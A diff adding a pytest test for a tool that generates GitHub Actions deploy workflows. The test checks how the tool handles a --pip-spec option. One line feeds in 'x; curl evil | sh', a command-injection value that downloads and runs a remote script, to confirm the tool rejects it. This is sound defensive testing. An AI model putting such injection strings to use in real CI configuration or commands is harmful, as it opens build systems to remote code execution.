@@ -346,3 +346,13 @@ def test_role_from_secret_and_region_literal(single: Path) -> None:
     assert creds["with"] == {
         "role-to-assume": "${{ vars.AWS_DEPLOY_ROLE_ARN }}", "aws-region": "${{ vars.AWS_REGION }}"
     }
+
+
+def test_pip_spec(single: Path) -> None:
+    (path,) = generate(single, "--pip-spec", "lambdaship[local]>=0.1,<0.2")
+    steps = _load(path)["jobs"]["deploy"]["steps"]
+    install = next(s for s in steps if s.get("name") == "Install lambdaship")
+    assert install["run"] == "python -m pip install --disable-pip-version-check 'lambdaship[local]>=0.1,<0.2'"
+    assert actionlint([path]) == []
+    proc = run_cli("ci", "github", "-C", str(single), "--force", "--pip-spec", "x; curl evil | sh")
+    assert proc.returncode == 2 and "lambdaship[local]" in path.read_text()
